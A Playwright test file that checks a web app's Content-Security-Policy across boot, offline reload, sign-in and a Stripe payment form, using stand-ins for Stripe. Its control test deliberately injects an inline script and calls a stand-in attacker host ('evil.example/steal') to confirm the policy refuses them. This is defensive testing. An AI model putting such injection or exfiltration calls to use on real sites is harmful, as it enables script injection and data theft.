// The pages' Content-Security-Policy (api/lib/security-headers.ts) in Chromium against the real
// build and server: the app boots from a prerendered page and from /classes rendered with its
// data, the service worker takes control and an offline reload works, e-mail sign-in, Google
// sign-in through the emulator's popup and the test payment form work, all with no violation of
// the policy. Stripe's own script and frames cannot load here (no internet): stand-ins at
// Stripe's addresses show the policy admits them as Stripe documents, and a control shows that
// what it does not admit is refused (so the collector does see violations).
import type { BrowserContext, Page } from '@playwright/test';
import { expect, test as base } from './fixtures.ts';
import { serveGapiStandIn } from './gapi-stand-in.ts';
import { GOES_OFFLINE, waitForServiceWorkerControl } from './offline-fixtures.ts';
import { payWithTestCard, selectClasses, twoClasses } from './payments-fixtures.ts';

type Violation = { directive: string; blocked: string; document: string };

/** Every `securitypolicyviolation` in any page or frame of the context, and CSP console errors. */
const test = base.extend<{ violations: Violation[] }>({
  violations: [
    async ({ context }, provide) => {
      const seen: Violation[] = [];
      await context.exposeBinding('reportCspViolation', (_source, violation: Violation) => {
        seen.push(violation);
      });
      await context.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', (event) => {
          const report = (window as unknown as { reportCspViolation: (v: Violation) => void })
            .reportCspViolation;
          report({
            directive: event.effectiveDirective,
            blocked: event.blockedURI,
            document: event.documentURI,
          });
        });
      });
      const watch = (page: Page) =>
        page.on('console', (message) => {
          if (/Content Security Policy/i.test(message.text())) {
            seen.push({ directive: 'console', blocked: message.text(), document: page.url() });
          }
        });
      context.pages().forEach(watch);
      context.on('page', watch);
      await provide(seen);
    },
    // From the first page on, in every test, whether it names the fixture or not.
    { auto: true },
  ],
});

test.afterEach(({ violations }) => {
  expect(violations, 'Content-Security-Policy violations').toEqual([]);
});

const policyOf = async (response: { headers(): Record<string, string> } | null) =>
  response?.headers()['content-security-policy'] ?? '';

test.describe('with the service worker (it goes offline)', () => {
  test.use(GOES_OFFLINE);
  test('the app boots from a prerendered page and from /classes with its data, and works offline', async ({
    page,
    context,
    violations,
  }) => {
    const home = await page.goto('/');
    expect(await policyOf(home)).toContain("frame-ancestors 'none'");
    expect(home?.headers()['x-frame-options']).toBe('DENY');
    // The service worker is registered by the app's code, which the inline loader imports.
    await waitForServiceWorkerControl(page);

    const classes = await page.goto('/classes');
    expect(await policyOf(classes)).toContain("script-src 'self' 'sha256-");
    await expect(page.getByText(/^\d+ classes open$/)).toBeVisible();
    await waitForServiceWorkerControl(page);

    await context.setOffline(true);
    const offline = await page.reload();
    expect(offline?.fromServiceWorker()).toBe(true);
    expect(await policyOf(offline)).toContain("frame-ancestors 'none'");
    await expect(page.getByRole('heading', { name: 'Choose Your Interest' })).toBeVisible();
    await expect(page.getByText(/^\d+ classes open$/)).toBeVisible();
    await context.setOffline(false);
    expect(violations).toEqual([]);
  });
});

test("the API's reference page shows the routes under a policy of its own", async ({ page }) => {
  // Swagger UI (decision 043) from our own origin: its files, its start and the document.
  const response = await page.goto('/api/docs');
  expect(await policyOf(response)).toContain("script-src 'self'");
  await expect(page.getByRole('heading', { name: /Sports Academy API/ })).toBeVisible();
  await expect(page.getByText('/api/class/{id}/roster', { exact: true })).toBeVisible();
});

test('e-mail sign-in against the emulator and the test payment form', async ({
  page,
  createAccount,
  signIn,
}) => {
  const names = twoClasses(2).map((item) => item.Name);
  await signIn(await createAccount());
  await selectClasses(page, names);
  await page.goto('/dashboard/payment');
  await payWithTestCard(page, '4242 4242 4242 4242');
  await expect(page.getByRole('heading', { name: /^Transaction complete/ })).toBeVisible();
});

test.describe('with the service worker kept out of the way of context.route', () => {
  test.use({ serviceWorkers: 'block' });

  test('Google sign-in through the emulator popup', async ({ page, context, uniqueEmail }) => {
    await serveGapiStandIn(context);
    await page.goto('/login');
    await expect(page.getByRole('heading', { name: 'please Login' })).toBeVisible();
    const popupOpened = page.waitForEvent('popup');
    await page.getByRole('button', { name: 'Google' }).click();
    const popup = await popupOpened;
    await popup.locator('#add-account-button').click();
    await popup.locator('#email-input').fill(uniqueEmail);
    await popup.locator('#display-name-input').fill('Cass Policy');
    await popup.locator('#sign-in').click();
    await expect(page).not.toHaveURL(/\/login/);
    await expect(page.getByRole('link', { name: 'Dashboard' }).first()).toBeVisible();
  });

  test('Stripe.js, its frames and its API are admitted as Stripe documents them', async ({
    page,
    context,
    violations,
  }) => {
    await serveStripeStandIns(context);
    const response = await page.goto('/dashboard/payment');
    const policy = await policyOf(response);
    for (const source of ['https://js.stripe.com', 'https://*.js.stripe.com']) {
      expect(policy).toMatch(new RegExp(`script-src [^;]*${escape(source)}`));
      expect(policy).toMatch(new RegExp(`frame-src [^;]*${escape(source)}`));
    }
    expect(policy).toMatch(/frame-src [^;]*https:\/\/hooks\.stripe\.com/);
    expect(policy).toMatch(/connect-src [^;]*https:\/\/api\.stripe\.com/);
    // What loadStripe() and the Card Element do, from the page itself.
    const loaded = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.src = 'https://js.stripe.com/v3/';
      const ran = new Promise((resolve) => script.addEventListener('load', resolve));
      document.head.append(script);
      for (const src of [
        'https://js.stripe.com/v3/elements-inner-card.html',
        'https://b.js.stripe.com/v3/m-outer.html',
        'https://hooks.stripe.com/3d_secure_2/hosted',
      ]) {
        const frame = document.createElement('iframe');
        frame.src = src;
        document.body.append(frame);
      }
      await ran;
      const api = await fetch('https://api.stripe.com/v1/payment_methods', { method: 'POST' });
      return {
        script: (window as unknown as { stripeStandIn?: boolean }).stripeStandIn,
        api: api.status,
      };
    });
    expect(loaded).toEqual({ script: true, api: 200 });
    await page.waitForTimeout(500); // frames report a refusal asynchronously
    expect(violations).toEqual([]);

    // The control: what the policy does not admit is refused, and the collector sees it. (Not
    // eval: DevTools' own evaluation, which page.evaluate uses, is exempt from the policy.)
    await page.evaluate(async () => {
      const inline = document.createElement('script');
      inline.textContent = 'window.injected = true';
      document.body.append(inline);
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      await fetch('https://evil.example/steal').catch(() => null);
    });
    const refused = () =>
      violations
        .filter((item) => item.directive !== 'console')
        .map((item) => item.directive)
        .sort();
    await expect.poll(refused).toEqual(['connect-src', 'frame-src', 'script-src-elem']);
    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    violations.length = 0;
  });
});

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');

/** Stand-ins at Stripe's addresses: a script, frame pages and an API response. */
async function serveStripeStandIns(context: BrowserContext): Promise<void> {
  await context.route(
    /^https:\/\/([a-z0-9-]+\.)?js\.stripe\.com\/|^https:\/\/hooks\.stripe\.com\//,
    (route) =>
      route.fulfill(
        route.request().resourceType() === 'script'
          ? { contentType: 'text/javascript', body: 'window.stripeStandIn = true;' }
          : { contentType: 'text/html', body: '<!doctype html><title>Stripe stand-in</title>' },
      ),
  );
  await context.route('https://api.stripe.com/**', (route) =>
    route.fulfill({
      contentType: 'application/json',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body: '{}',
    }),
  );
  await context.route('https://evil.example/**', (route) => route.fulfill({ body: 'evil' }));
}
